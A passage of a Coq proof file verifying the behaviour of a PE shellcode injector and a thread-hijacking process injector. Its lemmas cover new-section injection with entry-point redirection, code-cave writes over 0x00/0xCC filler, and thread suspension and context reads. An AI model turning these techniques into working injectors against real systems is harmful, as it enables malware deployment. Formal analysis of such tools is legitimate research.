    as (i & target & jmp & Hlook & _ & Hroom & _).
  exists i, target, [0xE9; 0xF5; 0xEF; 0xFF; 0xFF].
  split; [exact Hlook|].
  destruct i as [|[|i]]; cbn in Hlook; [|by simplify_eq|done].
  injection Hlook as <-. vm_compute in Hroom. by destruct Hroom.
Defined.

(** A failed injection into an existing section or into a code cave leaves
    the image as it was: everything that can raise comes before the first
    write.  The failure is logged. *)
Theorem failed_injection_leaves_the_image :
  (forall config pe shellcode rt pe' rt',
     PELayout._inject_existing_section config pe shellcode rt
       = (pe', rt', false) ->
     pe' = pe /\
     exists e, rt' = emit (LogError e (Some "现有节注入失败")) rt) /\
  (forall get_offset_from_rva config pe shellcode rt pe' rt',
     _inject_code_cave get_offset_from_rva config pe shellcode rt
       = Done (pe', rt', false) ->
     pe' = pe /\
     exists e, rt' = emit (LogError e (Some "代码洞注入失败")) rt).
Proof.
  split.
  - intros config pe shellcode rt pe' rt'.
    unfold PELayout._inject_existing_section,
      PELayout.inject_existing_section_try.
    repeat case_match; intros; simplify_eq; (split; [done|by eexists]).
  - intros get_offset config pe shellcode rt pe' rt'.
    unfold _inject_code_cave, inject_code_cave_try.
    repeat case_match; intros; simplify_eq; (split; [done|by eexists]).
Qed.

Lemma align_ok (value alignment : Z) :
  0 < alignment ->
  exists r,
    PELayout._align value alignment = Returned r /\
    aligned_after alignment value r.
Proof.
  intros Hpos. unfold PELayout._align, aligned_after.
  destruct (Z.eqb_spec alignment 0) as [|_]; [lia|].
  eexists. split; [reflexivity|].
  pose proof (Z.div_mod (value + alignment - 1) alignment ltac:(lia)).
  pose proof (Z.mod_pos_bound (value + alignment - 1) alignment Hpos).
  split; [by apply Z.mod_mul; lia|nia].
Qed.

Lemma list_getitem_last {A} (front : list A) (x : A) :
  list_getitem (front ++ [x]) (-1) = Returned x.
Proof.
  unfold list_getitem, index_of, len. rewrite length_app. cbn [length].
  destruct (Z.ltb_spec (-1) 0) as [_|]; [|lia].
  destruct (Z.leb_spec 0 (-1 + Z.of_nat (length front + 1))); [|lia].
  destruct (Z.ltb_spec (-1 + Z.of_nat (length front + 1))
                       (Z.of_nat (length front + 1))); [|lia].
  cbn [andb mbind option_bind].
  replace (Z.to_nat (-1 + Z.of_nat (length front + 1))) with (length front)
    by lia.
  by rewrite list_lookup_middle.
Qed.

(** Inserting [ins] at offset [ptr] of [data], as the slices do it. *)
Lemma insert_spec (data ins : list Z) (ptr : Z) :
  0 <= ptr <= len data ->
  let out := slice_to ptr data ++ ins ++ slice_from ptr data in
  take (Z.to_nat ptr) out = take (Z.to_nat ptr) data /\
  take (length ins) (drop (Z.to_nat ptr) out) = ins /\
  len out = len data + len ins.
Proof.
  intros Hptr. unfold slice_to, slice_from, clip, len in *.
  destruct (Z.ltb_spec ptr 0) as [|_]; [lia|].
  rewrite !Z.min_l by lia. set (p := Z.to_nat ptr).
  assert (Hp : (p <= length data)%nat) by lia.
  cbv zeta. split; [|split].
  - by rewrite take_app_length' by (rewrite length_take; lia).
  - rewrite drop_app_length' by (rewrite length_take; lia).
    by rewrite take_app_length.
  - rewrite !length_app, length_take, length_drop. lia.
Qed.

(** Overwriting from offset [k] on keeps what comes before [k] and does not
    shorten the file. *)
Lemma overwrite_keeps_prefix (data patch : list Z) (k : Z) :
  0 <= k <= len data ->
  let out := slice_to k data ++ patch ++ slice_from (k + len patch) data in
  take (Z.to_nat k) out = take (Z.to_nat k) data /\
  len data <= len out.
Proof.
  intros Hk. unfold slice_to, slice_from, clip, len in *.
  destruct (Z.ltb_spec k 0) as [|_]; [lia|].
  destruct (Z.ltb_spec (k + Z.of_nat (length patch)) 0) as [|_]; [lia|].
  rewrite (Z.min_l k) by lia.
  cbv zeta. split.
  - by rewrite take_app_length' by (rewrite length_take; lia).
  - rewrite !length_app, length_take, length_drop. lia.
Qed.

(** What [_inject_new_section] does once the alignments are positive and
    there is a last section: the header and the section table are extended
    and the shellcode is inserted, whatever happens next. *)
Lemma inject_new_section_cases
    (config : PyVal) (pe pe' : PELayout.Image) (front : list PELayout.Section)
    (lst : PELayout.Section) (shellcode : list Z) (rt rt' : Runtime)
    (ok : bool) :
  0 < PELayout.SectionAlignment pe -> 0 < PELayout.FileAlignment pe ->
  PELayout.sections pe = front ++ [lst] ->
  PELayout._inject_new_section config pe shellcode rt = (pe', rt', ok) ->
  exists new image_size,
    PELayout.sections pe' = PELayout.sections pe ++ [new] /\
    PELayout.NumberOfSections pe' = PELayout.NumberOfSections pe + 1 /\
    PELayout.SizeOfImage pe' = PELayout.VirtualAddress new + image_size /\
    PELayout.Name new = PELayout.text_name /\
    PELayout.Characteristics new = 0x60000020 /\
    PELayout.Misc_VirtualSize new = len shellcode /\
    aligned_after (PELayout.SectionAlignment pe)
      (PELayout.VirtualAddress lst + PELayout.Misc_VirtualSize lst)
      (PELayout.VirtualAddress new) /\
    aligned_after (PELayout.FileAlignment pe)
      (PELayout.PointerToRawData lst + PELayout.SizeOfRawData lst)
      (PELayout.PointerToRawData new) /\
    aligned_after (PELayout.FileAlignment pe) (len shellcode)
      (PELayout.SizeOfRawData new) /\
    aligned_after (PELayout.SectionAlignment pe) (len shellcode) image_size /\
    (if ok
     then PELayout.AddressOfEntryPoint pe' = PELayout.VirtualAddress new /\
          rt' = rt
     else PELayout.AddressOfEntryPoint pe' = PELayout.AddressOfEntryPoint pe /\
          exists e, rt' = emit (LogError e (Some "新节注入失败")) rt) /\
    (0 <= PELayout.PointerToRawData new <= len (PELayout.__data__ pe) ->
       take (Z.to_nat (PELayout.PointerToRawData new)) (PELayout.__data__ pe')
         = take (Z.to_nat (PELayout.PointerToRawData new)) (PELayout.__data__ pe) /\
       take (length shellcode)
            (drop (Z.to_nat (PELayout.PointerToRawData new))
                  (PELayout.__data__ pe')) = shellcode /\
       len (PELayout.__data__ pe) + PELayout.SizeOfRawData new
         <= len (PELayout.__data__ pe')).
Proof.
  intros HSA HFA Hsecs.
  unfold PELayout._inject_new_section, PELayout.inject_new_section_try.
  destruct (align_ok (len shellcode) _ HSA) as (image_size & Ha1 & Himage).
  destruct (align_ok (PELayout.VirtualAddress lst + PELayout.Misc_VirtualSize lst)
                     _ HSA) as (va & Ha2 & Hva).
  destruct (align_ok (len shellcode) _ HFA) as (raw & Ha3 & Hraw).
  destruct (align_ok (PELayout.PointerToRawData lst + PELayout.SizeOfRawData lst)
                     _ HFA) as (ptr & Ha4 & Hptr).
  rewrite Ha1. cbn [mbind outcome_bind].
  rewrite Hsecs, list_getitem_last. cbn [mbind outcome_bind].
  rewrite Ha2. cbn [mbind outcome_bind].
  rewrite Ha3. cbn [mbind outcome_bind].
  rewrite Ha4. cbn [mbind outcome_bind].
  cbn [PELayout.PointerToRawData PELayout.SizeOfRawData PELayout.VirtualAddress
       PELayout.AddressOfEntryPoint PELayout.__data__].
  set (new := PELayout.MkSection _ _ _ _ _ _).
  set (data1 := slice_to ptr (PELayout.__data__ pe) ++ shellcode ++
                replicate (Z.to_nat (raw - len shellcode)) 0 ++
                slice_from ptr (PELayout.__data__ pe)).
  assert (Hdata1 : 0 <= ptr <= len (PELayout.__data__ pe) ->
            take (Z.to_nat ptr) data1
              = take (Z.to_nat ptr) (PELayout.__data__ pe) /\
            take (length shellcode) (drop (Z.to_nat ptr) data1) = shellcode /\
            len data1 = len (PELayout.__data__ pe) + raw).
  { intros Hin.
    destruct (insert_spec (PELayout.__data__ pe)
                (shellcode ++ replicate (Z.to_nat (raw - len shellcode)) 0)
                ptr Hin) as (Hpre & Hmid & Hlen).
    unfold data1. rewrite (app_assoc shellcode).
    split; [done|]. split.
    - apply (f_equal (take (length shellcode))) in Hmid.
      rewrite take_take, length_app in Hmid.
      rewrite Nat.min_l in Hmid by lia.
      by rewrite take_app_length in Hmid.
    - rewrite Hlen. unfold len. rewrite length_app, length_replicate.
      destruct Hraw as [_ Hraw]. unfold len in Hraw. lia. }
  assert (Hcommon : forall pe2 entry,
            pe' = PELayout.MkImage (PELayout.NumberOfSections pe + 1)
                    (PELayout.SectionAlignment pe) (PELayout.FileAlignment pe)
                    (va + image_size) entry
                    (PELayout.sections pe ++ [new]) pe2 ->
            (if ok then entry = va /\ rt' = rt
             else entry = PELayout.AddressOfEntryPoint pe /\
                  exists e, rt' = emit (LogError e (Some "新节注入失败")) rt) ->
            (0 <= ptr <= len (PELayout.__data__ pe) ->
               take (Z.to_nat ptr) pe2
                 = take (Z.to_nat ptr) (PELayout.__data__ pe) /\
               take (length shellcode) (drop (Z.to_nat ptr) pe2) = shellcode /\
               len (PELayout.__data__ pe) + raw <= len pe2) ->
            exists new image_size,
              PELayout.sections pe' = PELayout.sections pe ++ [new] /\
              PELayout.NumberOfSections pe' = PELayout.NumberOfSections pe + 1 /\
              PELayout.SizeOfImage pe' = PELayout.VirtualAddress new + image_size /\
              PELayout.Name new = PELayout.text_name /\
              PELayout.Characteristics new = 0x60000020 /\
              PELayout.Misc_VirtualSize new = len shellcode /\
              aligned_after (PELayout.SectionAlignment pe)
                (PELayout.VirtualAddress lst + PELayout.Misc_VirtualSize lst)
                (PELayout.VirtualAddress new) /\
              aligned_after (PELayout.FileAlignment pe)
                (PELayout.PointerToRawData lst + PELayout.SizeOfRawData lst)
                (PELayout.PointerToRawData new) /\
              aligned_after (PELayout.FileAlignment pe) (len shellcode)
                (PELayout.SizeOfRawData new) /\
              aligned_after (PELayout.SectionAlignment pe) (len shellcode)
                image_size /\
              (if ok
               then PELayout.AddressOfEntryPoint pe' = PELayout.VirtualAddress new /\
                    rt' = rt
               else PELayout.AddressOfEntryPoint pe'
                      = PELayout.AddressOfEntryPoint pe /\
                    exists e, rt' = emit (LogError e (Some "新节注入失败")) rt) /\
              (0 <= PELayout.PointerToRawData new <= len (PELayout.__data__ pe) ->
                 take (Z.to_nat (PELayout.PointerToRawData new))
                      (PELayout.__data__ pe')
                 = take (Z.to_nat (PELayout.PointerToRawData new))
                        (PELayout.__data__ pe) /\
                 take (length shellcode)
                      (drop (Z.to_nat (PELayout.PointerToRawData new))
                            (PELayout.__data__ pe')) = shellcode /\
                 len (PELayout.__data__ pe) + PELayout.SizeOfRawData new
                   <= len (PELayout.__data__ pe'))).
  { intros pe2 entry -> Hentry Hdata. exists new, image_size.
    split_and!; [done..|exact Hentry|exact Hdata]. }
  rewrite <- Hsecs.
  destruct (PELayout.preserve_entry config) as [preserve|e].
  2:{ intros [= <- <- <-]. eapply Hcommon; [reflexivity| |].
      - split; [done|by eexists].
      - intros Hin. cbn [PELayout.__data__ PELayout.set_data PELayout.set_entry].
        destruct (Hdata1 Hin) as (? & ? & ?). split_and!; [done|done|lia]. }
  destruct (truthy preserve).
  - destruct (_create_return_jump _ _) as [jmp|e] eqn:Hjmp.
    + intros [= <- <- <-]. eapply Hcommon; [reflexivity|by split|].
      intros Hin. destruct (Hdata1 Hin) as (Hpre & Hmid & Hlen).
      assert (Hk : 0 <= ptr + len shellcode <= len data1).
      { destruct Hraw as [_ Hraw]. unfold len in *. lia. }
      destruct (overwrite_keeps_prefix data1 jmp (ptr + len shellcode) Hk)
        as (Hkeep & Hgrow).
      cbn zeta in Hkeep, Hgrow.
      set (data2 := slice_to (ptr + len shellcode) data1 ++ jmp ++
                    slice_from (ptr + len shellcode + len jmp) data1) in *.
      cbn [PELayout.__data__ PELayout.set_data PELayout.set_entry].
      assert (Hsame : take (Z.to_nat ptr + length shellcode) data2
                      = take (Z.to_nat ptr + length shellcode) data1).
      { replace (Z.to_nat ptr + length shellcode)%nat
          with (Z.to_nat (ptr + len shellcode)) by (unfold len; lia). done. }
      split; [|split; [|lia]].
      * rewrite <- Hpre.
        apply (f_equal (take (Z.to_nat ptr))) in Hsame.
        rewrite !take_take in Hsame.
        by rewrite !Nat.min_l in Hsame by lia.
      * transitivity (take (length shellcode) (drop (Z.to_nat ptr) data1));
          [|done].
        rewrite !take_drop_commute. by rewrite Hsame.
    + intros [= <- <- <-]. eapply Hcommon; [reflexivity| |].
      * split; [done|by eexists].
      * intros Hin. cbn [PELayout.__data__ PELayout.set_data PELayout.set_entry].
        destruct (Hdata1 Hin) as (? & ? & ?). split_and!; [done|done|lia].
  - intros [= <- <- <-]. eapply Hcommon; [reflexivity|by split|].
    intros Hin. cbn [PELayout.__data__ PELayout.set_data PELayout.set_entry].
    destruct (Hdata1 Hin) as (? & ? & ?). split_and!; [done|done|lia].
Qed.

(** [_inject_new_section], when it returns [True] on an image with positive
    alignments.  One section is appended to the table and counted in the
    header, named [.text], executable, its virtual size the length of the
    shellcode.  It starts at the first aligned address past the last
    section's virtual size and, in the file, at the first aligned offset past
    the last section's raw data; its raw size and the image size are aligned
    as well.  The entry point is its address.  When that offset lies in the
    file, the file is unchanged before it, holds the shellcode from it on, and
    has grown by the raw size at least. *)
Theorem inject_new_section_layout
    (config : PyVal) (pe pe' : PELayout.Image) (front : list PELayout.Section)
    (lst : PELayout.Section) (shellcode : list Z) (rt rt' : Runtime) :
  0 < PELayout.SectionAlignment pe -> 0 < PELayout.FileAlignment pe ->
  PELayout.sections pe = front ++ [lst] ->
  PELayout._inject_new_section config pe shellcode rt = (pe', rt', true) ->
  exists new,
    PELayout.sections pe' = PELayout.sections pe ++ [new] /\
    PELayout.NumberOfSections pe' = PELayout.NumberOfSections pe + 1 /\
    PELayout.AddressOfEntryPoint pe' = PELayout.VirtualAddress new /\
    PELayout.Name new = PELayout.text_name /\
    PELayout.Characteristics new = 0x60000020 /\
    PELayout.Misc_VirtualSize new = len shellcode /\
    aligned_after (PELayout.SectionAlignment pe)
      (PELayout.VirtualAddress lst + PELayout.Misc_VirtualSize lst)
      (PELayout.VirtualAddress new) /\
    aligned_after (PELayout.FileAlignment pe)
      (PELayout.PointerToRawData lst + PELayout.SizeOfRawData lst)
      (PELayout.PointerToRawData new) /\
    aligned_after (PELayout.FileAlignment pe) (len shellcode)
      (PELayout.SizeOfRawData new) /\
    aligned_after (PELayout.SectionAlignment pe) (len shellcode)
      (PELayout.SizeOfImage pe' - PELayout.VirtualAddress new) /\
    (0 <= PELayout.PointerToRawData new <= len (PELayout.__data__ pe) ->
       take (Z.to_nat (PELayout.PointerToRawData new)) (PELayout.__data__ pe')
         = take (Z.to_nat (PELayout.PointerToRawData new)) (PELayout.__data__ pe) /\
       take (length shellcode)
            (drop (Z.to_nat (PELayout.PointerToRawData new))
                  (PELayout.__data__ pe')) = shellcode /\
       len (PELayout.__data__ pe) + PELayout.SizeOfRawData new
         <= len (PELayout.__data__ pe')).
Proof.
  intros HSA HFA Hsecs Hrun.
  destruct (inject_new_section_cases config pe pe' front lst shellcode rt rt'
              true HSA HFA Hsecs Hrun)
    as (new & image_size & H1 & H2 & H3 & H4 & H5 & H6 & H7 & H8 & H9 & H10
        & [H11 _] & H12).
  exists new. replace (PELayout.SizeOfImage pe' - PELayout.VirtualAddress new)
    with image_size by lia.
  by split_and!.
Qed.

Lemma inject_new_section_layout_witness :
  exists new,
    PELayout.sections
      (PELayout._inject_new_section keep_entry roomy_image tiny_shellcode
         Runtime_init).1.1
    = [roomy_section; new] /\
    PELayout.VirtualAddress new = 0x2000 /\
    PELayout.PointerToRawData new = 24 /\
    PELayout.SizeOfRawData new = 8.
Proof.
  destruct (inject_new_section_layout keep_entry roomy_image
              (PELayout._inject_new_section keep_entry roomy_image
                 tiny_shellcode Runtime_init).1.1
              [] roomy_section tiny_shellcode Runtime_init Runtime_init
              ltac:(reflexivity) ltac:(reflexivity) eq_refl eq_refl)
    as (new & Hsections & _).
  cbn in Hsections. injection Hsections as <-.
  eexists. by split_and!.
Defined.

(** [_inject_new_section] is not all or nothing.  When it returns [False]
    although the alignments are positive and the image has sections, the
    failure came after the first writes: the image has the new section in its
    table and in its count and the shellcode in its file, the entry point is
    the old one, and the failure is logged. *)
Theorem inject_new_section_failure_is_not_undone
    (config : PyVal) (pe pe' : PELayout.Image) (front : list PELayout.Section)
    (lst : PELayout.Section) (shellcode : list Z) (rt rt' : Runtime) :
  0 < PELayout.SectionAlignment pe -> 0 < PELayout.FileAlignment pe ->
  PELayout.sections pe = front ++ [lst] ->
  PELayout._inject_new_section config pe shellcode rt = (pe', rt', false) ->
  exists new e,
    PELayout.sections pe' = PELayout.sections pe ++ [new] /\
    PELayout.NumberOfSections pe' = PELayout.NumberOfSections pe + 1 /\
    PELayout.AddressOfEntryPoint pe' = PELayout.AddressOfEntryPoint pe /\
    rt' = emit (LogError e (Some "新节注入失败")) rt /\
    (0 <= PELayout.PointerToRawData new <= len (PELayout.__data__ pe) ->
       take (length shellcode)
            (drop (Z.to_nat (PELayout.PointerToRawData new))
                  (PELayout.__data__ pe')) = shellcode /\
       len (PELayout.__data__ pe) + PELayout.SizeOfRawData new
         <= len (PELayout.__data__ pe')).
Proof.
  intros HSA HFA Hsecs Hrun.
  destruct (inject_new_section_cases config pe pe' front lst shellcode rt rt'
              false HSA HFA Hsecs Hrun)
    as (new & image_size & H1 & H2 & _ & _ & _ & _ & _ & _ & _ & _
        & [H11 [e He]] & H12).
  exists new, e. split_and!; [done..|].
  intros Hin. by destruct (H12 Hin) as (_ & ? & ?).
Qed.

Lemma inject_new_section_failure_is_not_undone_witness :
  exists new e,
    PELayout._inject_new_section no_settings roomy_image tiny_shellcode
      Runtime_init
    = (PELayout.MkImage 2 0x1000 8 0x3000 0x1000 [roomy_section; new]
         (replicate 24 0x90 ++ tiny_shellcode ++ replicate 6 0
          ++ replicate 8 0x90),
       emit (LogError e (Some "新节注入失败")) Runtime_init, false) /\
    exc_class e = KeyError.
Proof.
  destruct (inject_new_section_failure_is_not_undone no_settings roomy_image
              (PELayout._inject_new_section no_settings roomy_image
                 tiny_shellcode Runtime_init).1.1
              [] roomy_section tiny_shellcode Runtime_init _
              ltac:(reflexivity) ltac:(reflexivity) eq_refl eq_refl)
    as (new & e & Hsections & _).
  cbn in Hsections. injection Hsections as <-.
  do 2 eexists. split; reflexivity.
Defined.

(** ** The footprint of a code-cave injection (tools/pe_injector.py) *)

(** A successful code-cave injection overwrites filler only.  Suppose the
    parser maps the addresses of a section to the section's raw data in the
    file.  Then, when [_inject_code_cave] returns [True], the file has kept
    its length, and every byte of it that changed was [0x00] or [0xCC]. *)
Theorem code_cave_injection_overwrites_filler_only
    (get_offset_from_rva : PE -> Z -> outcome Z) (config : PyVal) (pe pe' : PE)
    (shellcode : list Z) (rt rt' : Runtime) :
  (forall s p, s ∈ sections pe -> 0 <= p < len (get_data s) ->
     get_offset_from_rva pe (VirtualAddress s + p)
       = Returned (PointerToRawData s + p)) ->
  (forall s p, s ∈ sections pe -> 0 <= p < len (get_data s) ->
     0 <= PointerToRawData s /\
     __data__ pe !! Z.to_nat (PointerToRawData s + p)
       = get_data s !! Z.to_nat p) ->
  _inject_code_cave get_offset_from_rva config pe shellcode rt
    = Done (pe', rt', true) ->
  length (__data__ pe') = length (__data__ pe) /\
  forall q : nat,
    __data__ pe' !! q <> __data__ pe !! q ->
    exists b, __data__ pe !! q = Some b /\ is_cave_byte b = true.
Proof.
  intros Hmap Hraw.
  unfold _inject_code_cave, inject_code_cave_try, _find_code_cave.
  assert (Hsize : 0 < len shellcode + 5) by (unfold len; lia).
  destruct (scan_sections_spec (sections pe) (len shellcode + 5) Hsize)
    as (r & -> & Hcave).
  destruct r as [[va n]|]; [|done].
  destruct Hcave as (before & section & after & p & Hsecs & Hexec & -> & ->
                     & (Hp & Hend & Hfill) & _).
  assert (Hin : section ∈ sections pe).
  { rewrite Hsecs. apply elem_of_app. right. by left. }
  destruct (VirtualAddress section + p =? 0); [done|].
  rewrite (Hmap section p Hin) by lia. cbn [mbind outcome_bind].
  set (off := PointerToRawData section + p).
  assert (Hwindow : forall patch,
            len patch <= len shellcode + 5 ->
            let out := slice_to off (__data__ pe) ++ patch ++
                       slice_from (off + len patch) (__data__ pe) in
            length out = length (__data__ pe) /\
            forall q : nat,
              out !! q <> __data__ pe !! q ->
              exists b, __data__ pe !! q = Some b /\ is_cave_byte b = true).
  { intros patch Hpatch.
    assert (Hoff : 0 <= off).
    { destruct (Hraw section p Hin ltac:(lia)) as [? _]. unfold off. lia. }
    assert (Hfit : off + len patch <= len (__data__ pe)).
    { destruct (Hraw section (p + (len shellcode + 5) - 1) Hin ltac:(lia))
        as [_ Hlast].
      assert (Hsome : is_Some (get_data section
                                 !! Z.to_nat (p + (len shellcode + 5) - 1))).
      { apply lookup_lt_is_Some. unfold len in *. lia. }
      rewrite <- Hlast in Hsome. apply lookup_lt_is_Some in Hsome.
      unfold off, len in *. lia. }
    destruct (splice_spec (__data__ pe) patch off Hoff Hfit)
      as (Hlen & _ & _ & Houtside).
    cbv zeta. split; [done|]. intros q Hq.
    destruct (Z.lt_ge_cases (Z.of_nat q) off) as [Hlow|Hlow];
      [by rewrite Houtside in Hq by (by left)|].
    destruct (Z.lt_ge_cases (Z.of_nat q) (off + len patch)) as [Hhigh|Hhigh];
      [|by rewrite Houtside in Hq by (by right)].
    set (p' := p + (Z.of_nat q - off)).
    destruct (Hraw section p' Hin ltac:(unfold p'; lia)) as [_ Hbyte].
    replace (Z.to_nat (PointerToRawData section + p')) with q in Hbyte
      by (unfold p', off; lia).
    exists (get_data section !!! Z.to_nat p'). split.
    - rewrite Hbyte. apply list_lookup_lookup_total_lt.
      unfold p', len in *. lia.
    - apply Hfill. unfold p'. lia. }
  destruct (py_getitem config "injection") as [injection|e]; [|done].
  cbn [mbind outcome_bind].
  destruct (py_getitem injection "preserve_entry") as [preserve|e]; [|done].
  cbn [mbind outcome_bind].
  destruct (truthy preserve).
  - destruct (_create_return_jump _ _) as [jmp|e] eqn:Hjmp; [|done].
    cbn [mbind outcome_bind]. intros [= <- <-]. cbn [__data__].
    apply return_jump_length in Hjmp.
    assert (Hlen : len (shellcode ++ jmp) = len shellcode + len jmp)
      by (unfold len; rewrite length_app; lia).
    replace (off + len shellcode + len jmp)
      with (off + len (shellcode ++ jmp)) by lia.
    rewrite (app_assoc shellcode jmp).
    apply Hwindow. lia.
  - cbn [mbind outcome_bind]. intros [= <- <-]. cbn [__data__].
    apply Hwindow. lia.
Qed.

Lemma code_cave_injection_overwrites_filler_only_witness :
  length (__data__ (MkPE [hollow_section]
            ([0x4D; 0x5A; 0x90; 0x00]
             ++ [0xCC; 0xC3] ++ [0xE9; 0xF9; 0xFF; 0xFF; 0xFF]
             ++ replicate 5 0 ++ [0xC3; 0x90]) 0x1000))
  = length (__data__ hollow_image).
Proof.
  refine (proj1 (code_cave_injection_overwrites_filler_only hollow_offset
                   keep_entry hollow_image _ tiny_shellcode
                   Runtime_init Runtime_init _ _ _)).
  - intros s p Hs Hp. apply list_elem_of_singleton in Hs as ->.
    unfold hollow_offset. cbn. f_equal. lia.
  - intros s p Hs Hp. apply list_elem_of_singleton in Hs as ->.
    change (len (get_data hollow_section)) with 12 in Hp.
    split; [cbn; lia|].
    assert (Hcases : p = 0 \/ p = 1 \/ p = 2 \/ p = 3 \/ p = 4 \/ p = 5 \/
                     p = 6 \/ p = 7 \/ p = 8 \/ p = 9 \/ p = 10 \/ p = 11)
      by lia.
    repeat (destruct Hcases as [->|Hcases]; [reflexivity|]). by subst.
  - reflexivity.
Defined.

(** ** Thread handles and the injection methods (tools/process_injector.py) *)

Lemma opened_threads_app (a b : Trace) :
  opened_threads (a ++ b) = opened_threads a ++ opened_threads b.
Proof. apply omap_app. Qed.

Lemma closed_handles_app (a b : Trace) :
  closed_handles (a ++ b) = closed_handles a ++ closed_handles b.
Proof. apply omap_app. Qed.

Lemma missed_spec (access : Z) (misses : Trace) :
  Forall (missed access) misses ->
  opened_threads misses = [] /\ closed_handles misses = [] /\
  Forall on_threads_only misses /\ Forall answered misses.
Proof.
  induction 1 as [|ev misses [tid ->] _ (IH1 & IH2 & IH3 & IH4)].
  - by repeat split.
  - split_and!; cbn; [done|done| |].
    + constructor; [exact I|done].
    + constructor; [by exists 0|done].
Qed.

Lemma first_thread_spec (env : Env) (ids : list Z) (s : State) :
  let run := first_thread env ids s in
  exists misses,
    Forall (missed (Z.lor 0x0020 0x0002)) misses /\
    progress run.1 = progress s /\ rt run.1 = rt s /\
    ((run.2 = Returned None /\ trace run.1 = trace s ++ misses) \/
     (exists tid e,
        run.2 = Raised e /\
        trace run.1
        = trace s ++ misses
          ++ [(OpenThread (Z.lor 0x0020 0x0002) false tid, Raised e)]) \/
     (exists ht tid,
        ht <> 0 /\ run.2 = Returned (Some (ht, tid)) /\
        trace run.1
        = trace s ++ misses
          ++ [(OpenThread (Z.lor 0x0020 0x0002) false tid, Returned ht)])).
Proof.
  revert s. induction ids as [|tid ids IH]; intros s; cbn zeta.
  - exists []. split_and!; [by constructor|done|done|]. left. by rewrite app_nil_r.
  - cbn [first_thread]. unfold bindM, syscall.
    set (open := OpenThread (Z.lor 0x0020 0x0002) false tid).
    destruct (kernel32 env (trace s) open) as [h|e] eqn:Hopen.
    + destruct (Z.eqb_spec h 0) as [->|Hh].
      * set (s1 := MkState _ _ _).
        destruct (IH s1) as (misses & Hm & Hp & Hrt & Hcases).
        exists ((open, Returned 0) :: misses).
        change (0 =? 0) with true. cbn iota.
        split_and!; [constructor; [by exists tid|done]|done|done|].
        subst s1. cbn [trace] in Hcases.
        destruct Hcases as [[Hr Htr]|[(t' & e & Hr & Htr)|(ht & t' & Hht & Hr & Htr)]];
          rewrite <- app_assoc in Htr.
        -- by left.
        -- right. left. by exists t', e.
        -- right. right. by exists ht, t'.
      * exists []. split_and!; [by constructor|done|done|]. right. right.
        by exists h, tid.
    + exists []. split_and!; [by constructor|done|done|]. right. left. by exists tid, e.
Qed.

Lemma thread_hijack_run (env : Env) (config : PyVal)
    (h_process shellcode_addr pid : Z) (s : State) :
  exists s' b ext,
    _thread_hijack env config h_process shellcode_addr pid s = (s', Returned b) /\
    trace s' = trace s ++ ext /\
    Forall on_threads_only ext /\
    (opened_threads ext = [] /\ closed_handles ext = [] /\ b = false \/
     exists ht pre closed,
       opened_threads ext = [ht] /\ closed_handles ext = [ht] /\
       ext = pre ++ [(CloseHandle ht, closed)]) /\
    (b = true ->
     exists misses ht tid suspended got resumed closed,
       Forall (missed (Z.lor 0x0020 0x0002)) misses /\
       ht <> 0 /\ suspended <> -1 /\ got <> 0 /\
       ext = misses
             ++ [ (OpenThread (Z.lor 0x0020 0x0002) false tid, Returned ht);
                  (SuspendThread ht, Returned suspended);
                  (GetThreadContext ht, Returned got);
                  (ResumeThread ht, Returned resumed);
                  (CloseHandle ht, Returned closed) ]).
Proof.
  unfold _thread_hijack, try_except.
  unfold bindM at 1, threads_of at 1.
  destruct (process_threads env (trace s) pid) as [ids|e0].
  2: { eexists _, false, []. cbn. rewrite app_nil_r.
       split_and!; [done|done|constructor|by left|discriminate]. }
  unfold bindM at 1.
  destruct (first_thread_spec env ids s) as (misses & Hm & _ & _ & Hcases).
  cbv zeta in Hcases.
  destruct (missed_spec _ _ Hm) as (Ho & Hc & Ht & Ha).
  destruct (first_thread env ids s) as [s1 r1]. cbn [fst snd] in Hcases.
  destruct Hcases as [[-> Htr]|[(tid & e & -> & Htr)|(ht & tid & Hht & -> & Htr)]].
  - eexists _, false, misses. cbn.
    split_and!; [done|done|done|by left|discriminate].
  - eexists _, false, (misses ++ [(OpenThread (Z.lor 32 2) false tid, Raised e)]).
    cbn. rewrite opened_threads_app, closed_handles_app, Ho, Hc.
    split_and!; [done|done| |by left|discriminate].
    apply Forall_app. split; [done|]. by constructor.
  - unfold try_finally, bindM, syscall, ret, config_at, lift, _hide_thread,
      log_error.
    cbn [trace progress rt fst snd].
    apply Z.eqb_neq in Hht.
    repeat first
      [ progress cbn [trace progress rt fst snd]
      | progress unfold ret
      | match goal with
        | |- context [kernel32 ?env ?tr ?c] =>
            destruct (kernel32 env tr c) as [?|?] eqn:?
        | |- context [if ?a =? ?b then _ else _] => destruct (Z.eqb_spec a b)
        | |- context [truthy ?v] => destruct (truthy v)
        | |- context [py_getitem ?c ?k ≫= ?f] =>
            destruct (py_getitem c k ≫= f) as [?|?]
        end ].
    all: eexists _, _, _; split; [reflexivity|]; cbn [trace].
    all: split; [rewrite Htr, <- !app_assoc; reflexivity|].
    all: split_and!.
    all: try (rewrite !Forall_app, !Forall_singleton; by split_and!).
    all: try (right; exists ht; eexists _, _;
              rewrite !opened_threads_app, !closed_handles_app, Ho, Hc;
              split_and!;
              [by cbn; rewrite Hht|done|rewrite !app_assoc; reflexivity]).
    all: intros Hb; try discriminate Hb.
    all: eexists misses, ht, tid, _, _, _, _;
      split_and!; [done|by apply Z.eqb_neq|done|done|reflexivity].
Qed.

(** [_thread_hijack] never raises and, besides opening threads, only
    suspends, reads, resumes and closes: it makes no call that takes the
    shellcode address.  It opens at most one thread handle, and when it has
    opened one its last system call is [CloseHandle] on that handle,
    whatever happened in between.  It returns [True] only after this
    series of calls, each of which came back: the threads that did not
    open, the one that did, [SuspendThread] on it with a result other than
    [-1], [GetThreadContext] with a result other than [0], [ResumeThread],
    whose result is not looked at, and [CloseHandle]. *)
Theorem thread_hijack_closes_its_thread (env : Env) (config : PyVal)
    (h_process shellcode_addr pid : Z) (s : State) :
  let run := _thread_hijack env config h_process shellcode_addr pid s in
  exists b ext,
    run.2 = Returned b /\
    trace run.1 = trace s ++ ext /\
    Forall on_threads_only ext /\
    (opened_threads ext = [] /\ closed_handles ext = [] /\ b = false \/
     exists ht pre closed,
       opened_threads ext = [ht] /\ closed_handles ext = [ht] /\
       ext = pre ++ [(CloseHandle ht, closed)]) /\
    (b = true ->
     exists misses ht tid suspended got resumed closed,
       Forall (missed (Z.lor 0x0020 0x0002)) misses /\
       ht <> 0 /\ suspended <> -1 /\ got <> 0 /\
       ext = misses
             ++ [ (OpenThread (Z.lor 0x0020 0x0002) false tid, Returned ht);
